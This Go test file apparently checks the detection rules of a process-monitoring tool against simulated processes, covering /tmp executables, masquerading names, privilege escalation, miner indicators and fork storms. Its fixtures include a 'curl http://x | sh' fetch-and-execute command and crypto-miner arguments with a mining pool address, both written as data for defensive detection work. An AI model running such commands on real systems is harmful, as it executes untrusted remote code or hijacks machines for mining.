package alert

// The unit tests that the xtop contract lists for its rules (section 4, 1 to
// 26), as behaviour: what they call clean stays clean, what they call hostile
// is found where there is evidence.

import (
	"slices"
	"testing"
)

// judgeOnce replays processes over some passes and returns the alerts.
func judgeOnce(passes int, actors ...*actor) []Alert {
	s := &scene{Name: "one", Passes: passes, Unowned: []string{"/usr/bin/mystery", "/usr/lib/x/abc"}, Processes: actors}
	s.complete()
	return s.replay()
}

func TestContractRules(t *testing.T) {
	t.Parallel()
	init := &actor{PID: 1, Name: "systemd", Exe: "/usr/lib/systemd/systemd"}
	browser := &actor{PID: 50, PPID: 49, Name: "chrome", Exe: "/opt/google/chrome/chrome", UID: 1000}
	one := func(a actor) []*actor {
		if a.PID == 0 {
			a.PID = 100
		}
		if a.PPID == 0 {
			a.PPID = 99
		}
		return []*actor{init, browser, &a}
	}
	const none = Severity("")
	for _, c := range []struct {
		name   string
		actors []*actor
		rule   string
		want   Severity
	}{
		{"1: an executable of /tmp", one(actor{Name: "x", Exe: "/tmp/x"}), rulePath, Critical},
		{"2: an executable of /usr/bin", one(actor{Name: "x", Exe: "/usr/bin/x"}), rulePath, none},
		{"3: a young orphan that nobody knows", one(actor{PPID: 1, Name: "mystery", Exe: "/usr/bin/mystery", Age: 5}), ruleOrphan, Critical},
		{"4: systemd is no orphan", one(actor{PPID: 1, Name: "systemd", Exe: "/usr/lib/systemd/systemd", Age: 5}), ruleOrphan, none},
		{"5: an orphan older than a minute", one(actor{PPID: 1, Name: "mystery", Exe: "/usr/bin/mystery", Age: 600}), ruleOrphan, Warning},
		{"6: another parent", one(actor{PPID: 49, Name: "mystery", Exe: "/usr/bin/mystery", Age: 5}), ruleOrphan, none},
		{"7: svchost of /tmp", one(actor{Name: "svchost", Exe: "/tmp/svchost"}), ruleMasquerade, Critical},
		{"8: an unrelated name", one(actor{Name: "zzz", Exe: "/usr/lib/x/abc"}), ruleMasquerade, Warning},
		{"9: python3 is python3.11", one(actor{Name: "python3", Exe: "/usr/bin/python3.11"}), ruleMasquerade, none},
		{"9: bash", one(actor{Name: "bash", Exe: "/usr/bin/bash"}), ruleMasquerade, none},
		{"10: uid 1000, euid 0", one(actor{Name: "x", Exe: "/home/u/x", Rights: &rights{Real: 1000}}), ruleEscalation, Critical},
		{"11: equal ids", one(actor{Name: "x", Exe: "/home/u/x", UID: 1000}), ruleEscalation, none},
		{"11: sudo", one(actor{Name: "sudo", Exe: "/usr/bin/sudo", Rights: &rights{Real: 1000}}), ruleEscalation, none},
		{"12: xterm under chrome", one(actor{PPID: 50, Name: "xterm", Exe: "/usr/bin/xterm", UID: 1000}), ruleBrowser, Warning},
		{"13: a renderer", one(actor{PPID: 50, Name: "chrome", Exe: "/opt/google/chrome/chrome", Args: []string{"chrome", "--type=renderer"}, UID: 1000}), ruleBrowser, none},
		{"13: another parent", one(actor{PPID: 1, Name: "xterm", Exe: "/usr/bin/xterm"}), ruleBrowser, none},
		{"14: xmrig", one(actor{Name: "xmrig", Exe: "/opt/xmrig"}), ruleThreat, Critical},
		{"15: --donate-level", one(actor{Name: "w", Exe: "/opt/w", Args: []string{"w", "--donate-level=1"}}), ruleThreat, Critical},
		{"15: a pool", one(actor{Name: "w", Exe: "/opt/w", Args: []string{"w", "-o", "pool.supportxmr.com:443"}}), ruleThreat, Critical},
		{"15: --threads alone", one(actor{Name: "xz", Exe: "/usr/bin/xz", Args: []string{"xz", "--threads=4"}}), ruleThreat, none},
		{"16: curl piped into sh", one(actor{Name: "bash", Exe: "/usr/bin/bash", Args: []string{"bash", "-c", "curl http://x | sh"}}), rulePipe, Critical},
		{"17: plain curl", one(actor{Name: "curl", Exe: "/usr/bin/curl", Args: []string{"curl", "http://x/samba"}}), rulePipe, none},
		{"18: 500 threads", one(actor{Name: "x", Exe: "/home/u/x", Threads: 500}), ruleThreads, Warning},
		{"18: 1500 threads", one(actor{Name: "x", Exe: "/home/u/x", Threads: 1500}), ruleThreads, Critical},
		{"18: 600 threads on three cores", one(actor{Name: "x", Exe: "/home/u/x", Threads: 600, CPU: 300}), ruleThreads, Critical},
		{"19: 499 threads", one(actor{Name: "x", Exe: "/home/u/x", Threads: 499}), ruleThreads, none},
		{"19: chrome with 600", one(actor{Name: "chrome", Exe: "/opt/google/chrome/chrome", Threads: 600, UID: 1000}), ruleThreads, none},
		{"20: 1000 descriptors", one(actor{Name: "x", Exe: "/usr/bin/x", FDCount: 1000}), ruleDescriptors, Info},
		{"20: 999 descriptors", one(actor{Name: "x", Exe: "/usr/bin/x", FDCount: 999}), ruleDescriptors, none},
		{"20: nginx with 5000", one(actor{Name: "nginx", Exe: "/usr/sbin/nginx", FDCount: 5000}), ruleDescriptors, none},
		{"21: six of one name", one(actor{PPID: 50, Name: "bot", Exe: "/var/www/bot", Repeat: 6, Age: 1}), ruleStorm, Warning},
		{"21: five of one name", one(actor{PPID: 50, Name: "bot", Exe: "/var/www/bot", Repeat: 5, Age: 1}), ruleStorm, none},
		{"23: six that run for long", one(actor{PPID: 50, Name: "bot", Exe: "/var/www/bot", Repeat: 6, Age: 500}), ruleStorm, none},
	} {
		for _, a := range c.actors {
			if a.PID == 100 && c.rule == ruleStorm {
				a.PPID = 49 // a parent that is no browser
			}
		}
		alerts := judgeOnce(4, c.actors...)
		i := slices.IndexFunc(alerts, func(a Alert) bool { return a.Rule == c.rule })
		got := none
		if i >= 0 {
			got = alerts[i].Severity
		}
		if got != c.want {
			t.Errorf("%s: %s gives %q, want %q (%+v)", c.name, c.rule, got, c.want, alerts)
		}
	}
}

// 22: a process counts once however often it is seen, and is forgotten.
func TestContractStormHistory(t *testing.T) {
	t.Parallel()
	bots := func(repeat int, age float64) []*actor {
		return []*actor{{PID: 100, PPID: 49, Name: "bot", Exe: "/var/www/bot", Repeat: repeat, Age: age}}
	}
	if alerts := judgeOnce(20, bots(5, 1)...); len(alerts) != 0 {
		t.Errorf("five processes that are seen twenty times storm: %+v", alerts)
	}
	s := &scene{Passes: 30, Every: 5, Processes: bots(6, 1)}
	s.complete()
	alerts := s.replay()
	if len(alerts) != 1 || alerts[0].Active() {
		t.Errorf("a storm of two minutes ago goes on: %+v", alerts)
	}
}

// 24: an ordinary mix gives nothing.
func TestContractBenignMix(t *testing.T) {
	t.Parallel()
	alerts := judgeOnce(6,
		&actor{PID: 1, Name: "systemd", Exe: "/usr/lib/systemd/systemd"},
		&actor{PID: 10, PPID: 1, Name: "sshd", Exe: "/usr/sbin/sshd", Unit: "ssh.service"},
		&actor{PID: 11, PPID: 10, Name: "python3", Exe: "/usr/bin/python3.11", Args: []string{"python3", "x.py"}, UID: 1000},
		&actor{PID: 12, PPID: 10, Name: "chrome", Exe: "/opt/google/chrome/chrome", UID: 1000},
	)
	if len(alerts) != 0 {
		t.Errorf("an ordinary mix gives %+v", alerts)
	}
}

// 25: many offenders with one cause are one alert that counts them; the
// surface of the contract cuts its list, not the book.
func TestManyOffendersAreOneAlert(t *testing.T) {
	t.Parallel()
	alerts := judgeOnce(4, &actor{PID: 100, PPID: 99, Name: "x", Exe: "/tmp/x", Repeat: 60})
	if len(alerts) != 1 || alerts[0].Count != 60 || len(alerts[0].Processes) != mostMembers {
		t.Errorf("60 processes of one executable give %d alerts: %+v", len(alerts), alerts)
	}
}
